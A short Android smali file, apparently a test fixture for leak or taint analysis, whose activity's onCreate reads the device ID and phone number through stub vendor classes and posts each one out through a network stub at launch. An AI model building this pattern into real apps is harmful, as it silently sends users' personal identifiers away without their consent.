.class public La/Main;
.super Landroid/app/Activity;
.method public static send(Ljava/lang/Object;)V
    .registers 1
    invoke-static {p0}, Lvendor/Net;->post(Ljava/lang/Object;)V
    return-void
.end method
.method public onCreate(Landroid/os/Bundle;)V
    .registers 3
    invoke-static {}, Lvendor/Device;->id()Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, La/Main;->send(Ljava/lang/Object;)V
    invoke-static {}, Lvendor/Device;->phone()Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, La/Main;->send(Ljava/lang/Object;)V
    invoke-static {}, Lvendor/Device;->id()Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, La/Main;->send(Ljava/lang/Object;)V
    return-void
.end method
